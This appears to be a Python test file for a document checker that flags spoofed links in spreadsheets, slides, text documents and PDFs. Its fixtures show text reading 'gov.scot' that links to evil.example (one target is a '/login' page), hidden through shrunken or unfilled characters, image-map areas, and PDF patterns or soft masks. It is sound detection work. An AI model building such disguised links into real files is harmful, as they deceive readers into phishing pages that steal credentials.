    assert data_problem(sheet('<c r="A1" t="str"><f>HYPERLINK("https://www.gov.scot/","Guidance")</f>'
                              "<v>Guidance</v></c>"), "xlsx") is None
    cell = ('<table:table-cell table:formula="of:=HYPERLINK(&quot;https://evil.example/&quot;)" office:value-type='
            '"string" office:string-value="www.gov.scot"><text:p>www.gov.scot</text:p></table:table-cell>')
    said = data_problem(odt(f'<office:body><office:spreadsheet><table:table table:name="S"><table:table-row>{cell}'
                            "</table:table-row></table:table></office:spreadsheet></office:body>"), "ods")
    assert said and "whose text shows `gov.scot`" in said, said


def _slide_with_master(master_style: str, runs: str) -> bytes:
    """A slide whose layout's master gives its body text `master_style`
    (a `a:defRPr`), and whose shape's paragraph holds `runs`."""
    p_ns = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    layout_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideLayout"
    master_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideMaster"
    return package({
        "ppt/slides/slide1.xml": f"<p:sld {p_ns} {A_NS} {R_NS}><p:cSld><p:spTree><p:sp><p:txBody><a:p>{runs}</a:p>"
                                 "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>",
        "ppt/slides/_rels/slide1.xml.rels": relationships(
            f'Id="rId7" Type="{HYPERLINK}" Target="{EVIL}" TargetMode="External"',
            f'Id="rId1" Type="{layout_type}" Target="../slideLayouts/slideLayout1.xml"'),
        "ppt/slideLayouts/slideLayout1.xml": f"<p:sldLayout {p_ns} {A_NS}><p:cSld><p:spTree/></p:cSld></p:sldLayout>",
        "ppt/slideLayouts/_rels/slideLayout1.xml.rels": relationships(
            f'Id="rId1" Type="{master_type}" Target="../slideMasters/slideMaster1.xml"'),
        "ppt/slideMasters/slideMaster1.xml": f"<p:sldMaster {p_ns} {A_NS}><p:cSld><p:spTree/></p:cSld><p:txStyles>"
                                             f"<p:bodyStyle><a:lvl1pPr>{master_style}</a:lvl1pPr></p:bodyStyle>"
                                             "<p:otherStyle><a:lvl1pPr>" + master_style + "</a:lvl1pPr></p:otherStyle>"
                                             "</p:txStyles></p:sldMaster>"})


def test_letters_a_slide_master_draws_unseen_are_read_as_possibly_unseen():
    """A master's text style makes the `_` between `gov` and `.scot` 1 point
    (or gives it no fill), and the runs about it say their own size (or
    colour): the reader sees `gov.scot`."""
    from resource_library.files import data_problem

    def run(text, properties=""):
        return f'<a:r><a:rPr{properties}><a:hlinkClick r:id="rId7"/></a:rPr><a:t>{text}</a:t></a:r>'

    sized = run("gov", ' sz="1800"') + run("_") + run(".scot", ' sz="1800"')
    said = data_problem(_slide_with_master('<a:defRPr sz="100"/>', sized), "pptx")
    assert said and "whose text shows `gov.scot`" in said, said
    coloured = ('<a:r><a:rPr><a:solidFill><a:srgbClr val="000000"/></a:solidFill><a:hlinkClick r:id="rId7"/></a:rPr>'
                '<a:t>gov</a:t></a:r>' + run("_") + '<a:r><a:rPr><a:solidFill><a:srgbClr val="000000"/></a:solidFill>'
                '<a:hlinkClick r:id="rId7"/></a:rPr><a:t>.scot</a:t></a:r>')
    said = data_problem(_slide_with_master("<a:defRPr><a:noFill/></a:defRPr>", coloured), "pptx")
    assert said and "whose text shows `gov.scot`" in said, said
    # A master whose text is seen leaves the link as it reads.
    honest = run("Read the", ' sz="1800"') + run(" guidance")
    assert data_problem(_slide_with_master('<a:defRPr sz="1800"/>', honest), "pptx") is None


def test_an_image_maps_area_shows_what_its_frame_shows():
    """Forty-seventh round: an area of an image map, linked to evil.example,
    over a picture titled `www.gov.scot` (or a text frame reading it), was
    published; an area is drawn over its frame."""
    from resource_library.files import data_problem
    svg = 'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
    area = (f'<draw:image-map><draw:area-rectangle xlink:type="simple" xlink:href="{EVIL}" svg:x="0" svg:y="0" '
            'svg:width="1cm" svg:height="1cm"/></draw:image-map>')

    def frame(inside):
        return odt(f"<office:body><office:text><text:p><draw:frame {svg}>{inside}{area}</draw:frame></text:p>"
                   "</office:text></office:body>")

    for inside in ('<draw:image xlink:href="Pictures/a.png"/><svg:title>www.gov.scot</svg:title>',
                   '<draw:image xlink:href="Pictures/a.png"/><svg:desc>See www.gov.scot</svg:desc>',
                   "<draw:text-box><text:p>www.gov.scot</text:p></draw:text-box>"):
        said = data_problem(frame(inside), "odt")
        assert said and "whose text shows `gov.scot`" in said, (inside, said)
    assert data_problem(frame('<draw:image xlink:href="Pictures/a.png"/><svg:title>A map of NHS boards</svg:title>'),
                        "odt") is None


def test_a_word_file_attached_to_a_company_template_is_told_how_to_let_it_go():
    from resource_library.files import data_problem
    said = data_problem(docx(rels(template(mode='TargetMode="External"'))), "docx")
    assert said and "(the template it is attached to); in Word, choose Developer, then Document Template" in said, said


def _painted_pdf(kind: str) -> bytes:
    """A page whose text reads `Read the guidance below.`, with
    `https://www.gov.scot/` painted as a tiling pattern or through a soft
    mask under a link to evil.example (forty-eighth round)."""
    import pikepdf
    from pikepdf import Dictionary, Name
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    drawing = pikepdf.Stream(pdf, b"BT /F1 14 Tf 0 0 0 rg 2 6 Td (https://www.gov.scot/) Tj ET")
    resources = Dictionary(Font=Dictionary(F1=font))
    if kind == "pattern":
        drawing.stream_dict.update(Dictionary(Type=Name.Pattern, PatternType=1, PaintType=1, TilingType=1,
                                              BBox=[0, 0, 400, 24], XStep=400, YStep=400,
                                              Resources=Dictionary(Font=Dictionary(F1=font)), Matrix=[1, 0, 0, 1, 72, 700]))
        resources.Pattern = Dictionary(P1=pdf.make_indirect(drawing))
        paint = b"/Pattern cs /P1 scn 72 700 200 24 re f"
    else:
        drawing.stream_dict.update(Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 595, 842],
                                              Group=Dictionary(S=Name.Transparency, CS=Name.DeviceGray),
                                              Resources=Dictionary(Font=Dictionary(F1=font))))
        resources.ExtGState = Dictionary(M1=Dictionary(Type=Name.ExtGState, SMask=Dictionary(
            Type=Name.Mask, S=Name.Luminosity, G=pdf.make_indirect(drawing))))
        paint = b"q /M1 gs 0 0 0 rg 72 700 200 24 re f Q"
    return _one_linked_page(pdf, (595, 842), resources,
                            b"BT /F1 12 Tf 72 760 Td (Read the guidance below.) Tj ET\n" + paint, [72, 700, 272, 724],
                            "https://evil.example/login")


def test_text_painted_as_a_pattern_or_through_a_mask_on_a_page_with_a_link_is_refused():
    """Forty-eighth round: PDFium draws text painted as a pattern, through a
    soft mask, or by a Type3 glyph that fills with a pattern, and reads none
    of it: `https://www.gov.scot/` showed over a link to evil.example."""
    from resource_library.files import pdf_problem
    for kind in ("pattern", "mask"):
        said = pdf_problem(_painted_pdf(kind))
        assert said and f"has text drawn as a {kind} on a page with a link" in said, (kind, said)
    said = pdf_problem(type3_pdf(b"1000 0 d0 /Pattern cs /P1 scn 0 0 1000 1000 re f"))
    assert said and "Type3 font whose glyph `R` draws text, a pattern or a mask" in said, said
